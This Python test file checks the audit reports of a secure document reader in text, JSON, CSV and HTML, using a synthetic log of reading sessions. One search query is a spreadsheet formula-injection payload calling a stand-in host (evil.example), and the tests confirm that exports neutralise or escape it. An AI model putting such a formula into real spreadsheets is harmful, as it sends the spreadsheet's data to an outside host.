"""What the audit report says: who, what, how closely, what was tried; in every format."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from readingroom.audit import AuditLog
from readingroom.audit.report_csv import FORMULA_STARTS, neutralise_cell
from readingroom.audit.report_timeline import tick_step
from readingroom.audit.sessions import capture_from_record
from readingroom.cli import main
from readingroom.errors import ExitCode
from readingroom.session_code import EXAMPLE_SESSION_CODE

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ISO = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")


class Clock:
    """The log's wall clock, moved by the test (the records' times are what is reported)."""

    def __init__(self) -> None:
        self.now = datetime(2026, 12, 3, 9, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += timedelta(seconds=seconds)


def _start(log: AuditLog, reader: str, document: str, **details: object) -> object:
    session = log.new_session(reader=reader, document=document, signature_hash="ab" * 32)
    log.append("session_started", session=session, code=session.code, **details)
    return session


def _view(log: AuditLog, clock: Clock, session: object, page: int, seconds: float) -> None:
    clock.advance(seconds)
    log.append("page_viewed", session=session, page=page, zoom=1.0, seconds=seconds)


@pytest.fixture
def logdir(rr_home: Path, tmp_path: Path) -> Path:
    """Three sessions of two readers over two documents, and two failed unlocks."""
    return build_log(tmp_path / "log")


def build_log(directory: Path) -> Path:
    """The log of :func:`logdir` (also used to look at the HTML report by hand)."""
    clock = Clock()
    log = AuditLog.open(directory, clock=clock)
    # A failed unlock before any session: the file did not open, so the reader is unknown.
    failed = log.new_session(reader=None)
    log.append("unlock_failed", session=failed, reason="expired", file="old-review.rrf")
    clock.advance(5)

    alice = _start(
        log, "alice@example.gov.uk", "DOC-1", reader_name="Alice Jones", organisation="Ofsted",
        title="SCR Child A", classification="OFFICIAL-SENSITIVE", pages=5,
        capture_state="partial", capture_os="Linux 6.1",
    )  # fmt: skip
    _view(log, clock, alice, 1, 12)
    _view(log, clock, alice, 2, 3)
    clock.advance(1)
    log.append("search", session=alice, query=HYPERLINK, hits=2)
    log.append("denied_action", session=alice, action="copy")
    log.append("idle_locked", session=alice)
    clock.advance(60)
    log.append("unlock_failed", session=alice, reason="wrong passphrase")
    log.append("unlocked", session=alice)
    log.append("focus_lost", session=alice)
    clock.advance(30)
    log.append("focus_returned", session=alice)
    _view(log, clock, alice, 3, 15)
    log.append("session_ended", session=alice, reason="closed")

    bob = _start(
        log, "bob@example.gov.uk", "DOC-1", reader_name="Bob Smith", organisation="Westmoor",
        title="SCR Child A", classification="OFFICIAL-SENSITIVE", pages=5,
    )  # fmt: skip
    _view(log, clock, bob, 4, 20)
    log.append("session_ended", session=bob, reason="idle")

    again = _start(
        log, "alice@example.gov.uk", "DOC-2", reader_name="Alice Jones", organisation="Ofsted",
        title="Other review", classification="OFFICIAL", pages=2,
    )  # fmt: skip
    _view(log, clock, again, 1, 40)
    clock.advance(3)
    log.append("session_ended", session=again, reason="closed")
    log.close()
    return directory


def _report(logdir: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert main(["audit", "report", str(logdir), *args]) == 0
    return capsys.readouterr().out


def test_text_report_answers_who_what_how_closely(
    logdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = _report(logdir, capsys)
    lines = out.splitlines()
    assert lines[0] == "ReadingRoom audit report" and lines[1].startswith("RESTRICTED")
    assert ISO.fullmatch(lines[2].removeprefix("Generated: "))
    assert lines[3] == "Filters: none (everything in the log)"
    assert lines[4].startswith("Log: ") and "hash chain intact" in lines[4]
    # Who and what.
    assert "reader       Alice Jones <alice@example.gov.uk>, Ofsted" in out
    assert 'document     "SCR Child A" [OFFICIAL-SENSITIVE] (DOC-1)' in out
    assert "capture      partial (Linux 6.1)" in out and "capture      not recorded" in out
    # How closely: page 2 was on screen for 3 s only.
    assert "coverage     2 of 5 pages seen for at least 10 s; not seen: 2, 4-5" in out
    # What happened when.
    assert "locked (idle) 2026-12-03T09:00:21Z -> 2026-12-03T09:01:21Z (1m00s)" in out
    assert "away         2026-12-03T09:01:21Z -> 2026-12-03T09:01:51Z (0m30s)" in out
    assert f"search       2026-12-03T09:00:21Z {json.dumps(HYPERLINK)} (2 hits)" in out
    assert "denied       2026-12-03T09:00:21Z copy" in out
    # Failed unlocks, with the reader where known.
    assert "2026-12-03T09:00:00Z  expired  reader: unknown  file: old-review.rrf" in out
    assert (
        "2026-12-03T09:01:21Z  wrong passphrase  reader: alice@example.gov.uk  "
        "file: signature abababababababab"
    ) in out
    # Totals across readers and across documents.
    assert (
        '"SCR Child A" (DOC-1): 2 session(s), 2 reader(s), 0m50s on pages; '
        "3 of 5 pages seen for at least 10 s; not seen: 2, 5"
    ) in out
    assert (
        "Alice Jones <alice@example.gov.uk>, Ofsted: 2 session(s), 2 document(s), 1m10s on "
        "pages, 1 search(es), 1 denied action(s)"
    ) in out
    # One time format throughout.
    assert not re.search(r"\d\d:\d\d:\d\d UTC|\+00:00|\.\d{3}Z", out)


def test_filters_take_a_name_or_title_fragment(
    logdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = _report(logdir, capsys, "--reader", "JONES", "--format", "json")
    data = json.loads(out)
    assert {s["reader"] for s in data["sessions"]} == {"alice@example.gov.uk"}
    assert data["filters"]["reader"] == "JONES"
    # Only failed unlocks of known readers pass a reader filter.
    assert [f["reason"] for f in data["failed_unlocks"]] == ["wrong passphrase"]
    out = _report(logdir, capsys, "--document", "child a", "--format", "json")
    data = json.loads(out)
    assert sorted(s["reader_name"] for s in data["sessions"]) == ["Alice Jones", "Bob Smith"]
    assert [d["document"] for d in data["documents"]] == ["DOC-1"]
    out = _report(logdir, capsys, "--reader", "bob@example.gov.uk", "--document", "DOC-2")
    assert "0 session(s); 0 failed unlock(s)" in out
    assert 'Filters: reader matches "bob@example.gov.uk"; document matches "DOC-2"' in out
    out = _report(logdir, capsys, "--since", "2026-12-03T09:02")
    assert "Filters: since 2026-12-03T09:02:00Z" in out and "3 session(s)" not in out


def test_json_has_every_event_with_its_time(
    logdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = json.loads(_report(logdir, capsys, "--format", "json"))
    assert data["verified"] is True and ISO.fullmatch(data["generated"])
    first = data["sessions"][0]
    assert first["searches"] == [{"time": "2026-12-03T09:00:21Z", "query": HYPERLINK, "hits": 2}]
    assert first["denied"] == [{"time": "2026-12-03T09:00:21Z", "action": "copy", "kind": ""}]
    assert [p["kind"] for p in first["periods"]] == ["locked (idle)", "away"]
    assert first["pages_not_seen"] == [2, 4, 5]
    assert first["capture"] == {"state": "partial", "os": "Linux 6.1"}
    assert first["page_views"][0] == {
        "page": 1, "from": "2026-12-03T09:00:05Z", "until": "2026-12-03T09:00:17Z", "seconds": 12.0,
        "visible_seconds": 12.0, "ended_by": None,
    }  # fmt: skip
    assert data["failed_unlocks"][0]["reader"] is None
    assert [r["reader"] for r in data["readers"]] == ["alice@example.gov.uk", "bob@example.gov.uk"]


def test_csv_kinds_and_formula_cells_are_neutralised(
    logdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = list(csv.DictReader(io.StringIO(_report(logdir, capsys, "--format", "csv"))))
    assert len(rows) == 3
    alice = rows[0]
    assert alice["reader_name"] == "Alice Jones" and alice["title"] == "SCR Child A"
    assert alice["searches"] == "'" + HYPERLINK  # shown as text, never run as a formula
    assert alice["search_times_hits"] == "2026-12-03T09:00:21Z:2"
    assert alice["pages_not_seen"] == "2 4 5" and alice["capture"] == "partial (Linux 6.1)"
    assert alice["start"] == "2026-12-03T09:00:05Z"
    views = list(csv.DictReader(io.StringIO(_report(logdir, capsys, "--format", "csv-views"))))
    assert [(v["reader"], v["page"], v["seconds"]) for v in views] == [
        ("alice@example.gov.uk", "1", "12.0"),
        ("alice@example.gov.uk", "2", "3.0"),
        ("alice@example.gov.uk", "3", "15.0"),
        ("bob@example.gov.uk", "4", "20.0"),
        ("alice@example.gov.uk", "1", "40.0"),
    ]
    assert views[0]["from"] == "2026-12-03T09:00:05Z" and views[0]["until"].endswith("17Z")


def test_the_capture_field_is_read_as_issue_18_writes_it() -> None:
    record = {"state": "enforced", "os": "Windows 11 23H2"}
    assert capture_from_record(record) == record
    assert capture_from_record({"state": "<b>odd</b>"}) == {
        "state": "unknown (<b>odd</b>)", "os": "",
    }  # fmt: skip
    assert capture_from_record("enforced") is None


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralise_cell(start + "1+1") == "'" + start + "1+1"
    assert neutralise_cell("plain " + start) == "plain " + start
    assert neutralise_cell(None) == "" and neutralise_cell(42) == "42"


def test_html_report_has_a_header_totals_and_a_timeline_with_an_axis(
    logdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    html = _report(logdir, capsys, "--format", "html")
    assert "<tr><th></th>" not in html  # no empty header row
    assert "<script" not in html and "Generated: " in html and "hash chain intact" in html
    assert "Per document (all readers)" in html and "Per reader (all documents)" in html
    assert ">Page 1</text>" in html and ">Events</text>" in html
    assert ">09:01:00</text>" in html  # a round tick on the time axis (30 s steps here)
    assert "locked (idle): 2026-12-03T09:00:21Z to 2026-12-03T09:01:21Z" in html
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in html
    assert "wrong passphrase" in html and "partial (Linux 6.1)" in html


def test_tick_steps_give_a_readable_axis() -> None:
    assert tick_step(50) == 10
    assert tick_step(7 * 60) == 60
    assert tick_step(3 * 3600) == 1800
    assert tick_step(100 * 3600) >= 12 * 3600


def test_trace_shows_who_and_what(logdir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = json.loads(_report(logdir, capsys, "--format", "json"))
    code = data["sessions"][0]["session_code"]
    assert main(["trace", code, str(logdir)]) == 0
    out = capsys.readouterr().out
    assert out.startswith("RESTRICTED")
    assert "Alice Jones <alice@example.gov.uk>, Ofsted" in out
    assert '"SCR Child A" [OFFICIAL-SENSITIVE] (DOC-1)' in out
    assert "capture      partial (Linux 6.1)" in out
    assert main(["trace", "0000-0000-0", str(logdir)]) == ExitCode.BAD_INPUT
    assert EXAMPLE_SESSION_CODE in capsys.readouterr().err


def test_alarms_use_the_same_time_format(logdir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    clock = Clock()
    clock.now -= timedelta(days=2)  # the clock set back before the next session
    AuditLog.open(logdir, clock=clock).close()
    assert main(["audit", "report", str(logdir)]) == 0
    alarms = [line for line in capsys.readouterr().out.splitlines() if line.startswith("ALARM")]
    assert len(alarms) == 1
    assert re.fullmatch(r"ALARM 2026-12-01T09:00:00Z clock_rollback: .*", alarms[0])
